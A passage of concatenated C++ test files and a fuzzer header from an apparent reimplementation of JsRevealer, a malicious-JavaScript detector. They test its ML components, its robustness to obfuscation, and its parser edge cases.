  // A trained detector's clean accuracy should dominate its average
  // obfuscated accuracy — the paper's core premise.
  const HarnessConfig cfg = tiny_config();
  const ResultGrid grid = run_grid(cfg, {jsrevealer_factory(cfg)});
  const auto& by_cond = grid.begin()->second;
  const double clean = by_cond.at("Baseline").accuracy;
  double obf_avg = 0.0;
  for (const auto& cond : condition_names()) {
    if (cond != "Baseline") obf_avg += by_cond.at(cond).accuracy;
  }
  obf_avg /= 4.0;
  EXPECT_GE(clean + 1e-9, obf_avg);
}

TEST(Harness, PctFormatsFractions) {
  EXPECT_EQ(pct(0.994), "99.4");
  EXPECT_EQ(pct(0.0), "0.0");
  EXPECT_EQ(pct(1.0), "100.0");
}

TEST(Integration, ObfuscatedScriptsRemainAnalyzable) {
  // Every obfuscator output must survive the FULL analysis pipeline
  // (parse → scopes → dataflow → paths), not just re-parsing.
  dataset::GeneratorConfig gc;
  gc.benign_count = 12;
  gc.malicious_count = 12;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  core::Config det_cfg;
  det_cfg.embed_epochs = 3;
  det_cfg.cluster_sample_per_class = 200;
  core::JsRevealer det(det_cfg);
  det.train(corpus);

  Rng rng(3);
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const auto obfuscator = obf::make_obfuscator(kind);
    for (std::size_t i = 0; i < corpus.samples.size(); i += 5) {
      const std::string out =
          obfuscator->obfuscate(corpus.samples[i].source, rng());
      // featurize throws on analysis failure; classify must not.
      EXPECT_NO_THROW({
        const auto f = det.featurize(out);
        EXPECT_EQ(f.size(), det.feature_count());
      }) << obf::obfuscator_kind_name(kind);
    }
  }
}

TEST(Integration, DoubleObfuscationStillClassifies) {
  // Chained obfuscators (Jshaman then JSObfu) — a stress shape the paper's
  // discussion raises (more targeted obfuscation).
  dataset::GeneratorConfig gc;
  gc.benign_count = 40;
  gc.malicious_count = 40;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  core::Config det_cfg;
  det_cfg.embed_epochs = 5;
  det_cfg.cluster_sample_per_class = 400;
  core::JsRevealer det(det_cfg);
  det.train(corpus);

  const auto a = obf::make_obfuscator(obf::ObfuscatorKind::kJshaman);
  const auto b = obf::make_obfuscator(obf::ObfuscatorKind::kJsObfu);
  const std::string once = a->obfuscate(corpus.samples[0].source, 1);
  const std::string twice = b->obfuscate(once, 2);
  EXPECT_TRUE(js::parses_ok(twice));
  const int verdict = det.classify(twice);
  EXPECT_TRUE(verdict == 0 || verdict == 1);
}

}  // namespace
}  // namespace jsrev::bench
