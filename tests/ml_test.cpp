#include <gtest/gtest.h>

#include <cmath>
#include <vector>

#include "ml/attention_model.h"
#include "ml/classifier.h"
#include "ml/decision_tree.h"
#include "ml/kmeans.h"
#include "ml/linear_models.h"
#include "ml/matrix.h"
#include "ml/metrics.h"
#include "ml/naive_bayes.h"
#include "ml/outlier.h"
#include "ml/scaler.h"
#include "util/rng.h"

namespace jsrev::ml {
namespace {

// Two well-separated Gaussian blobs in d dimensions.
struct Blobs {
  Matrix x;
  std::vector<int> y;
};

Blobs make_blobs(std::size_t per_class, std::size_t d, double separation,
                 std::uint64_t seed) {
  Rng rng(seed);
  Blobs b;
  b.x = Matrix(per_class * 2, d);
  b.y.resize(per_class * 2);
  for (std::size_t i = 0; i < per_class * 2; ++i) {
    const int label = i < per_class ? 0 : 1;
    b.y[i] = label;
    for (std::size_t j = 0; j < d; ++j) {
      b.x(i, j) = rng.normal() + (label == 1 ? separation : 0.0);
    }
  }
  return b;
}

TEST(Metrics, PerfectPrediction) {
  const Metrics m = compute_metrics({1, 0, 1, 0}, {1, 0, 1, 0});
  EXPECT_DOUBLE_EQ(m.accuracy, 1.0);
  EXPECT_DOUBLE_EQ(m.f1, 1.0);
  EXPECT_DOUBLE_EQ(m.fpr, 0.0);
  EXPECT_DOUBLE_EQ(m.fnr, 0.0);
}

TEST(Metrics, AllWrong) {
  const Metrics m = compute_metrics({1, 0}, {0, 1});
  EXPECT_DOUBLE_EQ(m.accuracy, 0.0);
  EXPECT_DOUBLE_EQ(m.fpr, 1.0);
  EXPECT_DOUBLE_EQ(m.fnr, 1.0);
}

TEST(Metrics, KnownConfusion) {
  // truth: 4 pos, 4 neg. predictions: 3 TP 1 FN, 1 FP 3 TN.
  const Metrics m = compute_metrics({1, 1, 1, 1, 0, 0, 0, 0},
                                    {1, 1, 1, 0, 1, 0, 0, 0});
  EXPECT_EQ(m.cm.tp, 3u);
  EXPECT_EQ(m.cm.fn, 1u);
  EXPECT_EQ(m.cm.fp, 1u);
  EXPECT_EQ(m.cm.tn, 3u);
  EXPECT_DOUBLE_EQ(m.precision, 0.75);
  EXPECT_DOUBLE_EQ(m.recall, 0.75);
  EXPECT_DOUBLE_EQ(m.f1, 0.75);
  EXPECT_DOUBLE_EQ(m.fpr, 0.25);
  EXPECT_DOUBLE_EQ(m.fnr, 0.25);
}

TEST(Metrics, FprFnrIndependentOfClassRatio) {
  // Duplicate the negative class 3x: FPR/FNR must not change.
  const Metrics a = compute_metrics({1, 1, 0, 0}, {1, 0, 1, 0});
  const Metrics b = compute_metrics({1, 1, 0, 0, 0, 0, 0, 0},
                                    {1, 0, 1, 0, 1, 0, 1, 0});
  EXPECT_DOUBLE_EQ(a.fnr, b.fnr);
  EXPECT_DOUBLE_EQ(a.fpr, b.fpr);
}

TEST(Metrics, AverageMetrics) {
  Metrics m1, m2;
  m1.accuracy = 0.8;
  m2.accuracy = 1.0;
  const Metrics avg = average_metrics({m1, m2});
  EXPECT_DOUBLE_EQ(avg.accuracy, 0.9);
}

TEST(Scaler, MapsToUnitInterval) {
  Matrix x(3, 2);
  x(0, 0) = 0; x(0, 1) = 10;
  x(1, 0) = 5; x(1, 1) = 20;
  x(2, 0) = 10; x(2, 1) = 30;
  MinMaxScaler scaler;
  const Matrix t = scaler.fit_transform(x);
  EXPECT_DOUBLE_EQ(t(0, 0), 0.0);
  EXPECT_DOUBLE_EQ(t(1, 0), 0.5);
  EXPECT_DOUBLE_EQ(t(2, 0), 1.0);
  EXPECT_DOUBLE_EQ(t(2, 1), 1.0);
}

TEST(Scaler, ClampsUnseenValues) {
  Matrix x(2, 1);
  x(0, 0) = 0;
  x(1, 0) = 1;
  MinMaxScaler scaler;
  scaler.fit(x);
  double row[1] = {5.0};
  scaler.transform_row(row);
  EXPECT_DOUBLE_EQ(row[0], 1.0);
}

TEST(Scaler, ConstantFeatureYieldsZero) {
  Matrix x(2, 1);
  x(0, 0) = 7;
  x(1, 0) = 7;
  MinMaxScaler scaler;
  scaler.fit(x);
  double row[1] = {7.0};
  scaler.transform_row(row);
  EXPECT_DOUBLE_EQ(row[0], 0.0);
}

TEST(KMeans, RecoversSeparatedClusters) {
  const Blobs b = make_blobs(50, 4, 10.0, 1);
  KMeansConfig cfg;
  cfg.k = 2;
  const Clustering c = kmeans(b.x, cfg);
  // Each true class must map to one cluster homogeneously.
  int first_cluster = c.assignment[0];
  for (std::size_t i = 0; i < 50; ++i) {
    EXPECT_EQ(c.assignment[i], first_cluster);
  }
  for (std::size_t i = 50; i < 100; ++i) {
    EXPECT_NE(c.assignment[i], first_cluster);
  }
}

TEST(KMeans, SseDecreasesWithK) {
  const Blobs b = make_blobs(60, 3, 3.0, 2);
  double prev = 1e300;
  for (int k = 1; k <= 6; ++k) {
    KMeansConfig cfg;
    cfg.k = k;
    const Clustering c = bisecting_kmeans(b.x, cfg);
    EXPECT_LE(c.sse, prev + 1e-9) << "k=" << k;
    prev = c.sse;
  }
}

TEST(BisectingKMeans, ProducesKClusters) {
  const Blobs b = make_blobs(40, 5, 6.0, 3);
  KMeansConfig cfg;
  cfg.k = 5;
  const Clustering c = bisecting_kmeans(b.x, cfg);
  EXPECT_EQ(c.centroids.rows(), 5u);
  EXPECT_EQ(c.sizes.size(), 5u);
  std::size_t total = 0;
  for (const std::size_t s : c.sizes) total += s;
  EXPECT_EQ(total, b.x.rows());
}

TEST(BisectingKMeans, KLargerThanPointsClamped) {
  Matrix x(3, 2);
  x(0, 0) = 0; x(1, 0) = 5; x(2, 0) = 10;
  KMeansConfig cfg;
  cfg.k = 10;
  const Clustering c = bisecting_kmeans(x, cfg);
  EXPECT_LE(c.centroids.rows(), 3u);
}

TEST(BisectingKMeans, DeterministicForSeed) {
  const Blobs b = make_blobs(30, 4, 4.0, 4);
  KMeansConfig cfg;
  cfg.k = 4;
  const Clustering c1 = bisecting_kmeans(b.x, cfg);
  const Clustering c2 = bisecting_kmeans(b.x, cfg);
  EXPECT_EQ(c1.assignment, c2.assignment);
  EXPECT_DOUBLE_EQ(c1.sse, c2.sse);
}

TEST(NearestCentroid, PicksClosest) {
  Matrix centroids(2, 2);
  centroids(0, 0) = 0; centroids(0, 1) = 0;
  centroids(1, 0) = 10; centroids(1, 1) = 10;
  const double p1[2] = {1, 1};
  const double p2[2] = {9, 9};
  EXPECT_EQ(nearest_centroid(centroids, p1), 0);
  EXPECT_EQ(nearest_centroid(centroids, p2), 1);
  EXPECT_NEAR(nearest_centroid_distance(centroids, p1), std::sqrt(2.0), 1e-9);
}

TEST(Outlier, FastAbodFlagsInjectedOutlier) {
  Rng rng(5);
  Matrix x(51, 3);
  for (std::size_t i = 0; i < 50; ++i) {
    for (std::size_t j = 0; j < 3; ++j) x(i, j) = rng.normal();
  }
  // A far-away point.
  x(50, 0) = 60;
  x(50, 1) = -55;
  x(50, 2) = 70;
  OutlierConfig cfg;
  cfg.contamination = 0.05;
  const OutlierResult r = fastabod(x, cfg);
  EXPECT_TRUE(r.is_outlier[50]);
}

TEST(Outlier, KnnFlagsInjectedOutlier) {
  Rng rng(6);
  Matrix x(41, 2);
  for (std::size_t i = 0; i < 40; ++i) {
    x(i, 0) = rng.normal();
    x(i, 1) = rng.normal();
  }
  x(40, 0) = 100;
  x(40, 1) = 100;
  OutlierConfig cfg;
  cfg.contamination = 0.05;
  const OutlierResult r = knn_outlier(x, cfg);
  EXPECT_TRUE(r.is_outlier[40]);
}

TEST(Outlier, LofFlagsInjectedOutlier) {
  Rng rng(7);
  Matrix x(41, 2);
  for (std::size_t i = 0; i < 40; ++i) {
    x(i, 0) = rng.normal();
    x(i, 1) = rng.normal();
  }
  x(40, 0) = 50;
  x(40, 1) = 50;
  OutlierConfig cfg;
  cfg.contamination = 0.05;
  const OutlierResult r = lof(x, cfg);
  EXPECT_TRUE(r.is_outlier[40]);
}

TEST(Outlier, ContaminationControlsCount) {
  const Blobs b = make_blobs(50, 3, 0.0, 8);
  OutlierConfig cfg;
  cfg.contamination = 0.2;
  const OutlierResult r = fastabod(b.x, cfg);
  EXPECT_EQ(r.outlier_count, static_cast<std::size_t>(0.2 * 100));
}

TEST(Outlier, TinyInputsSafe)  {
  Matrix x(2, 2);
  const OutlierResult r = fastabod(x, {});
  EXPECT_EQ(r.scores.size(), 2u);
  EXPECT_FALSE(r.is_outlier[0]);
}

TEST(Outlier, SelectorReturnsValidMethod) {
  const Blobs b = make_blobs(40, 3, 1.0, 9);
  const OutlierMethod m = select_outlier_method(b.x, {});
  EXPECT_FALSE(outlier_method_name(m).empty());
  // Running the selected method must work.
  const OutlierResult r = run_outlier(m, b.x, {});
  EXPECT_EQ(r.scores.size(), b.x.rows());
}

// ---- classifiers: parameterized over all kinds --------------------------

class ClassifierSweep : public ::testing::TestWithParam<ClassifierKind> {};

TEST_P(ClassifierSweep, LearnsSeparableBlobs) {
  const Blobs train = make_blobs(80, 6, 4.0, 11);
  const Blobs test = make_blobs(40, 6, 4.0, 12);
  auto clf = make_classifier(GetParam(), 1);
  clf->fit(train.x, train.y);
  const Metrics m = clf->evaluate(test.x, test.y);
  EXPECT_GE(m.accuracy, 0.9) << clf->name();
}

TEST_P(ClassifierSweep, HandlesSingleClassGracefully) {
  Matrix x(10, 3);
  std::vector<int> y(10, 0);
  Rng rng(13);
  for (auto& v : x.data()) v = rng.normal();
  auto clf = make_classifier(GetParam(), 1);
  clf->fit(x, y);
  EXPECT_EQ(clf->predict(x.row(0)), 0) << clf->name();
}

INSTANTIATE_TEST_SUITE_P(
    AllKinds, ClassifierSweep,
    ::testing::Values(ClassifierKind::kSvm,
                      ClassifierKind::kLogisticRegression,
                      ClassifierKind::kDecisionTree,
                      ClassifierKind::kGaussianNaiveBayes,
                      ClassifierKind::kBernoulliNaiveBayes,
                      ClassifierKind::kRandomForest),
    [](const ::testing::TestParamInfo<ClassifierKind>& info) {
      return classifier_kind_name(info.param);
    });

TEST(DecisionTree, AxisAlignedSplit) {
  // 1-D threshold problem: x < 0 -> 0, x > 0 -> 1.
  Matrix x(20, 1);
  std::vector<int> y(20);
  for (int i = 0; i < 20; ++i) {
    x(static_cast<std::size_t>(i), 0) = i < 10 ? -1.0 - i : 1.0 + i;
    y[static_cast<std::size_t>(i)] = i < 10 ? 0 : 1;
  }
  DecisionTree tree;
  tree.fit(x, y);
  // The split threshold lies midway between -1 and 11; probe clear of it.
  const double neg[1] = {-3.0};
  const double pos[1] = {8.0};
  EXPECT_EQ(tree.predict(neg), 0);
  EXPECT_EQ(tree.predict(pos), 1);
}

TEST(DecisionTree, XorNeedsDepth) {
  // XOR is not linearly separable; a depth-2 tree handles it.
  Matrix x(4, 2);
  x(0, 0) = 0; x(0, 1) = 0;
  x(1, 0) = 0; x(1, 1) = 1;
  x(2, 0) = 1; x(2, 1) = 0;
  x(3, 0) = 1; x(3, 1) = 1;
  const std::vector<int> y = {0, 1, 1, 0};
  TreeConfig cfg;
  cfg.min_samples_split = 2;
  DecisionTree tree(cfg);
  tree.fit(x, y);
  for (std::size_t i = 0; i < 4; ++i) {
    EXPECT_EQ(tree.predict(x.row(i)), y[i]);
  }
}

TEST(RandomForest, FeatureImportancesSumToOne) {
  const Blobs b = make_blobs(60, 5, 3.0, 14);
  RandomForest forest;
  forest.fit(b.x, b.y);
  const auto imp = forest.feature_importances();
  ASSERT_EQ(imp.size(), 5u);
  double sum = 0;
  for (const double v : imp) {
    EXPECT_GE(v, 0.0);
    sum += v;
  }
  EXPECT_NEAR(sum, 1.0, 1e-9);
}

TEST(RandomForest, ImportanceConcentratesOnInformativeFeature) {
  // Only feature 0 carries signal.
  Rng rng(15);
  Matrix x(200, 4);
  std::vector<int> y(200);
  for (std::size_t i = 0; i < 200; ++i) {
    y[i] = i % 2 == 0 ? 0 : 1;
    x(i, 0) = (y[i] == 1 ? 5.0 : -5.0) + rng.normal() * 0.1;
    for (std::size_t j = 1; j < 4; ++j) x(i, j) = rng.normal();
  }
  RandomForest forest;
  forest.fit(x, y);
  const auto imp = forest.feature_importances();
  EXPECT_GT(imp[0], 0.8);
}

TEST(LinearSvm, DecisionFunctionSign) {
  const Blobs b = make_blobs(100, 2, 6.0, 16);
  LinearSvm svm;
  svm.fit(b.x, b.y);
  EXPECT_LT(svm.decision_function(b.x.row(0)), 0.0);
  EXPECT_GT(svm.decision_function(b.x.row(150)), 0.0);
}

TEST(LogisticRegression, ProbabilitiesCalibratedDirection) {
  const Blobs b = make_blobs(100, 2, 6.0, 17);
  LogisticRegression lr;
  lr.fit(b.x, b.y);
  EXPECT_LT(lr.predict_proba(b.x.row(0)), 0.5);
  EXPECT_GT(lr.predict_proba(b.x.row(150)), 0.5);
}

TEST(AttentionModel, LearnsToSeparateByPathIds) {
  // Scripts of class 1 contain paths {0..4}; class 0 contain {5..9}.
  AttentionModelConfig cfg;
  cfg.embedding_dim = 8;
  cfg.epochs = 40;
  AttentionModel model(cfg);
  std::vector<ScriptPaths> scripts;
  Rng rng(18);
  for (int i = 0; i < 60; ++i) {
    ScriptPaths s;
    s.label = i % 2;
    for (int j = 0; j < 6; ++j) {
      s.path_ids.push_back(static_cast<std::int32_t>(
          (s.label == 1 ? 0 : 5) + rng.below(5)));
    }
    scripts.push_back(std::move(s));
  }
  const double loss = model.train(scripts, 10);
  EXPECT_LT(loss, 0.2);
  EXPECT_GT(model.predict_malicious({0, 1, 2}), 0.5);
  EXPECT_LT(model.predict_malicious({5, 6, 7}), 0.5);
}

TEST(AttentionModel, EmbedSkipsUnknownIds) {
  AttentionModelConfig cfg;
  cfg.embedding_dim = 4;
  cfg.epochs = 1;
  AttentionModel model(cfg);
  model.train({{{0, 1}, 0}, {{2, 3}, 1}}, 4);
  const EmbeddedScript e = model.embed({0, -1, 99, 2});
  EXPECT_EQ(e.embeddings.rows(), 2u);
  EXPECT_EQ(e.path_ids.size(), 2u);
}

TEST(AttentionModel, WeightsSumToOne) {
  AttentionModelConfig cfg;
  cfg.embedding_dim = 4;
  cfg.epochs = 2;
  AttentionModel model(cfg);
  model.train({{{0, 1, 2}, 0}, {{3, 4}, 1}}, 5);
  const EmbeddedScript e = model.embed({0, 1, 2, 3});
  double sum = 0;
  for (const double w : e.weights) sum += w;
  EXPECT_NEAR(sum, 1.0, 1e-9);
}

TEST(AttentionModel, EmptyScriptSafe) {
  AttentionModelConfig cfg;
  cfg.embedding_dim = 4;
  cfg.epochs = 1;
  AttentionModel model(cfg);
  model.train({{{0}, 0}, {{1}, 1}}, 2);
  const EmbeddedScript e = model.embed({});
  EXPECT_EQ(e.embeddings.rows(), 0u);
  EXPECT_EQ(model.predict_malicious({}), 0.5);
}

TEST(AttentionModel, EmbeddingsBoundedByTanh) {
  AttentionModelConfig cfg;
  cfg.embedding_dim = 6;
  cfg.epochs = 5;
  AttentionModel model(cfg);
  model.train({{{0, 1}, 0}, {{2, 3}, 1}}, 4);
  for (std::int32_t id = 0; id < 4; ++id) {
    for (const double v : model.path_embedding(id)) {
      EXPECT_LE(std::fabs(v), 1.0);
    }
  }
}

TEST(AttentionModel, DeterministicForSeed) {
  AttentionModelConfig cfg;
  cfg.embedding_dim = 4;
  cfg.epochs = 3;
  cfg.seed = 77;
  std::vector<ScriptPaths> scripts = {{{0, 1}, 0}, {{2, 3}, 1}};
  AttentionModel m1(cfg), m2(cfg);
  m1.train(scripts, 4);
  m2.train(scripts, 4);
  EXPECT_EQ(m1.path_embedding(0), m2.path_embedding(0));
}

}  // namespace
}  // namespace jsrev::ml
