#include <gtest/gtest.h>

#include <string>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"

namespace jsrev::core {
namespace {

// Shared small fixture: train one detector once (training is the costly
// part) and reuse it across the tests that only inspect the trained state.
class TrainedJsRevealer : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    dataset::GeneratorConfig gc;
    gc.seed = 7;
    gc.benign_count = 140;
    gc.malicious_count = 140;
    corpus_ = new dataset::Corpus(dataset::generate_corpus(gc));
    Rng rng(8);
    split_ = new dataset::Split(dataset::split_corpus(*corpus_, 100, 100, rng));

    Config cfg;
    cfg.cluster_sample_per_class = 800;
    cfg.embed_epochs = 8;
    detector_ = new JsRevealer(cfg);
    detector_->train(split_->train);
  }

  static void TearDownTestSuite() {
    delete detector_;
    delete split_;
    delete corpus_;
    detector_ = nullptr;
    split_ = nullptr;
    corpus_ = nullptr;
  }

  static dataset::Corpus* corpus_;
  static dataset::Split* split_;
  static JsRevealer* detector_;
};

dataset::Corpus* TrainedJsRevealer::corpus_ = nullptr;
dataset::Split* TrainedJsRevealer::split_ = nullptr;
JsRevealer* TrainedJsRevealer::detector_ = nullptr;

TEST_F(TrainedJsRevealer, AccurateOnCleanTestSet) {
  const ml::Metrics m = detector_->evaluate(split_->test);
  EXPECT_GE(m.accuracy, 0.78);
  EXPECT_GE(m.f1, 0.78);
}

TEST_F(TrainedJsRevealer, FeatureCountMatchesClusterConfig) {
  // k_benign=11 + k_malicious=10 minus removed overlapping clusters.
  EXPECT_EQ(detector_->feature_count() + detector_->clusters_removed(), 21u);
  EXPECT_GE(detector_->feature_count(), 10u);
}

TEST_F(TrainedJsRevealer, FeaturizeIsDeterministic) {
  const std::string src = split_->test.samples[0].source;
  EXPECT_EQ(detector_->featurize(src), detector_->featurize(src));
}

TEST_F(TrainedJsRevealer, FeaturesInUnitInterval) {
  for (int i = 0; i < 5; ++i) {
    const auto f = detector_->featurize(split_->test.samples[
        static_cast<std::size_t>(i)].source);
    EXPECT_EQ(f.size(), detector_->feature_count());
    for (const double v : f) {
      EXPECT_GE(v, 0.0);
      EXPECT_LE(v, 1.0);
    }
  }
}

TEST_F(TrainedJsRevealer, UnparseableInputClassifiedMalicious) {
  EXPECT_EQ(detector_->classify("function ( { nope"), 1);
}

TEST_F(TrainedJsRevealer, FeatureReportHasEntries) {
  const auto report = detector_->feature_report(5);
  ASSERT_EQ(report.size(), 5u);
  double prev = 1e9;
  bool any_benign = false, any_malicious = false, any_path = false;
  for (const auto& e : report) {
    EXPECT_LE(e.importance, prev);  // sorted descending
    prev = e.importance;
    any_benign = any_benign || e.from_benign;
    any_malicious = any_malicious || !e.from_benign;
    any_path = any_path || !e.central_path.empty();
  }
  EXPECT_TRUE(any_path);
  // Both cluster families are usually represented in the top five; at
  // minimum the report must tag each entry with its provenance.
  EXPECT_TRUE(any_benign || any_malicious);
}

TEST_F(TrainedJsRevealer, RobustToJshamanRenaming) {
  // Variable renaming alone must barely move the verdicts (the paper's
  // least harmful obfuscator).
  const auto obf = obf::make_obfuscator(obf::ObfuscatorKind::kJshaman);
  int agree = 0, total = 0;
  for (std::size_t i = 0; i < split_->test.samples.size() && total < 30;
       ++i) {
    const auto& s = split_->test.samples[i];
    std::string obfuscated;
    try {
      obfuscated = obf->obfuscate(s.source, i);
    } catch (const std::exception&) {
      continue;
    }
    agree += detector_->classify(s.source) == detector_->classify(obfuscated);
    ++total;
  }
  EXPECT_GE(static_cast<double>(agree) / static_cast<double>(total), 0.85);
}

TEST_F(TrainedJsRevealer, TimingsPopulated) {
  const StageTimings& t = detector_->timings();
  EXPECT_GT(t.parse.count(), 0u);
  EXPECT_GT(t.enhanced_ast.count(), 0u);
  EXPECT_GT(t.path_traversal.count(), 0u);
  EXPECT_GT(t.pretraining.count(), 0u);
  EXPECT_GT(t.embedding.count(), 0u);
  EXPECT_GT(t.outlier.count(), 0u);
  EXPECT_GT(t.clustering.count(), 0u);
  EXPECT_GT(t.classifying.count(), 0u);
}

TEST_F(TrainedJsRevealer, DefaultOutlierMethodIsFastAbod) {
  EXPECT_EQ(detector_->outlier_method(), ml::OutlierMethod::kFastAbod);
}

TEST(JsRevealerConfig, RegularAstAblationTrains) {
  dataset::GeneratorConfig gc;
  gc.seed = 9;
  gc.benign_count = 50;
  gc.malicious_count = 50;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(10);
  const dataset::Split split = dataset::split_corpus(corpus, 35, 35, rng);

  Config cfg;
  cfg.path.use_dataflow = false;  // Table IV "regular AST" ablation
  cfg.k_benign = 5;
  cfg.k_malicious = 6;
  cfg.embed_epochs = 6;
  cfg.cluster_sample_per_class = 500;
  JsRevealer det(cfg);
  det.train(split.train);
  const ml::Metrics m = det.evaluate(split.test);
  EXPECT_GE(m.accuracy, 0.6);  // works, though weaker than enhanced AST
}

TEST(JsRevealerConfig, AlternativeClassifierKinds) {
  dataset::GeneratorConfig gc;
  gc.seed = 11;
  gc.benign_count = 70;
  gc.malicious_count = 70;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(12);
  const dataset::Split split = dataset::split_corpus(corpus, 50, 50, rng);

  for (const auto kind : {ml::ClassifierKind::kSvm,
                          ml::ClassifierKind::kLogisticRegression,
                          ml::ClassifierKind::kGaussianNaiveBayes}) {
    Config cfg;
    cfg.classifier = kind;
    cfg.embed_epochs = 5;
    cfg.cluster_sample_per_class = 400;
    JsRevealer det(cfg);
    det.train(split.train);
    const ml::Metrics m = det.evaluate(split.test);
    // Small fixture: the point is that every classifier plugs in and beats
    // chance, not that it matches the random forest (Table II's finding).
    EXPECT_GE(m.accuracy, 0.55) << ml::classifier_kind_name(kind);
    // Non-forest classifiers provide no importance report.
    EXPECT_TRUE(det.feature_report(5).empty());
  }
}

TEST(JsRevealerConfig, SseCurveMonotonicallyDecreasing) {
  dataset::GeneratorConfig gc;
  gc.seed = 13;
  gc.benign_count = 40;
  gc.malicious_count = 40;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  Config cfg;
  cfg.embed_epochs = 5;
  cfg.cluster_sample_per_class = 400;
  JsRevealer det(cfg);
  const auto sse = det.sse_curve(corpus, /*label=*/0, 2, 8);
  ASSERT_EQ(sse.size(), 7u);
  for (std::size_t i = 1; i < sse.size(); ++i) {
    EXPECT_LE(sse[i], sse[i - 1] * 1.05) << "k=" << (2 + i);
  }
}

TEST(JsRevealerConfig, OutlierSelectionRuns) {
  dataset::GeneratorConfig gc;
  gc.seed = 14;
  gc.benign_count = 30;
  gc.malicious_count = 30;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  Config cfg;
  cfg.run_outlier_selection = true;  // exercise the MetaOD substitute
  cfg.embed_epochs = 4;
  cfg.cluster_sample_per_class = 300;
  JsRevealer det(cfg);
  det.train(corpus);
  // Any of the three methods is acceptable; the call must have resolved.
  const std::string name = ml::outlier_method_name(det.outlier_method());
  EXPECT_FALSE(name.empty());
}

}  // namespace
}  // namespace jsrev::core
