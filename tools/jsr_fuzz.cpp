// jsr_fuzz: seeded mutational fuzzer / differential harness for the JS
// frontend. No external fuzzing engine: the seed corpus comes from the
// dataset generator (benign + malicious genres, plus variants of each
// script through all four obfuscator models), mutations are driven by
// util::Rng, and every run is bit-reproducible from --seed.
//
// Five oracles are checked per input:
//   O1 never-crash: lex→parse terminates with a tree or a structured
//      LexError/ParseError — any other exception (or a sanitizer abort,
//      when built with JSR_SANITIZE=ON) is a finding;
//   O2 round-trip: for input that parses, print→reparse succeeds and
//      yields a structurally equal AST (js::ast_equal), in both pretty and
//      minified styles;
//   O3 obfuscate: obfuscating parseable input yields output that still
//      parses (the path extractors consume obfuscator output downstream);
//   O4 lint-total: Linter::lint never throws, parse failure included, and
//      its parse-failed flag agrees with the direct parse outcome;
//   O5 deob: for input that parses, deobfuscate_source never throws, its
//      output parses, and a second run is a no-op fixpoint (idempotence).
//      Before the mutation loop a verdict sweep additionally checks that a
//      small JsRevealer running behind Config::deobfuscate classifies
//      obf(s) exactly like s for clean generator seeds.
//   O6 artifact-robust: truncations and bit flips over a valid JSRM model
//      artifact must surface as ser::ModelFormatError from
//      ModelView::from_buffer — never a crash — and a mutant that still
//      loads (mutation landed in padding) must classify probe scripts
//      exactly like the pristine artifact, never silently differently.
//      Runs once up front, like the O5 verdict sweep.
//
// Usage:
//   $ jsr_fuzz --seed 1 --iters 2000            # CI smoke configuration
//   $ jsr_fuzz --seed 7 --iters 100000 --quiet  # longer local run
//
// Writes throughput + outcome counters to BENCH_fuzz.json (cwd) unless
// --no-json. Exit status: 0 = all oracles held, 1 = at least one finding,
// 2 = usage error.
#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "analysis/script_analysis.h"
#include "core/jsrevealer.h"
#include "core/model_view.h"
#include "dataset/generator.h"
#include "deob/deob.h"
#include "js/ast_compare.h"
#include "js/lexer.h"
#include "js/parser.h"
#include "js/printer.h"
#include "lint/linter.h"
#include "obfuscators/obfuscator.h"
#include "obs/json.h"
#include "obs/metrics.h"
#include "util/hash.h"
#include "util/serialize.h"
#include "util/rng.h"
#include "util/string_util.h"
#include "util/timer.h"

namespace {

using namespace jsrev;

constexpr std::size_t kMaxInputBytes = 1u << 16;  // cap mutation growth

// Fragments the mutator splices in: escape-sequence and delimiter edge
// cases the grammar is most likely to mishandle.
constexpr const char* kDictionary[] = {
    "\"\\x00\"", "\"\\0\"",   "\\u0041", "\\x4",   "\"\\\r\n\"", "0x",
    "0b1",       "/*",        "*/",      "//",     "`",          "${",
    "=>",        "...",       "new ",    "typeof ", "function",  "(((",
    ")))",       "{{{",       "}}}",     "[",      "]",          "'\\01'",
    "\\",        "\r",        "\\0",     "e+",     ".5.",        "in ",
    "with(",     "label:",    ";;",      "?.:",    "/[/]/g",     "\"",
};

struct Options {
  std::uint64_t seed = 1;
  std::uint64_t iters = 2000;
  std::size_t corpus = 48;
  bool quiet = false;
  bool write_json = true;
  std::string json_path = "BENCH_fuzz.json";
};

struct Stats {
  std::uint64_t execs = 0;
  std::uint64_t parse_ok = 0;
  std::uint64_t parse_fail = 0;
  std::uint64_t o2_checked = 0;
  std::uint64_t o3_checked = 0;
  std::uint64_t o5_checked = 0;
  std::uint64_t o5_verdicts = 0;
  std::uint64_t o6_checked = 0;
  std::uint64_t failures = 0;

  /// Mirrors the run's outcome counters into the process-wide metrics
  /// registry (fuzz.execs / fuzz.parse.{ok,fail} / fuzz.findings), so a
  /// metrics export taken after a fuzz run carries its iteration stats.
  void publish() const {
    auto& reg = jsrev::obs::metrics();
    reg.counter("fuzz.execs")->add(execs);
    reg.counter("fuzz.parse.ok")->add(parse_ok);
    reg.counter("fuzz.parse.fail")->add(parse_fail);
    reg.counter("fuzz.oracle.roundtrip_checked")->add(o2_checked);
    reg.counter("fuzz.oracle.obfuscate_checked")->add(o3_checked);
    reg.counter("fuzz.oracle.deob_checked")->add(o5_checked);
    reg.counter("fuzz.oracle.deob_verdicts_checked")->add(o5_verdicts);
    reg.counter("fuzz.oracle.artifact_checked")->add(o6_checked);
    reg.counter("fuzz.findings")->add(failures);
  }
};

std::string printable(const std::string& s, std::size_t max_bytes = 100000) {
  std::string out;
  for (std::size_t i = 0; i < s.size() && i < max_bytes; ++i) {
    const unsigned char u = static_cast<unsigned char>(s[i]);
    if (u >= 0x20 && u < 0x7f) {
      out += static_cast<char>(u);
    } else {
      char buf[6];
      std::snprintf(buf, sizeof buf, "\\x%02x", u);
      out += buf;
    }
  }
  if (s.size() > max_bytes) out += "...";
  return out;
}

void report_failure(Stats& stats, const char* oracle, const std::string& why,
                    const std::string& input) {
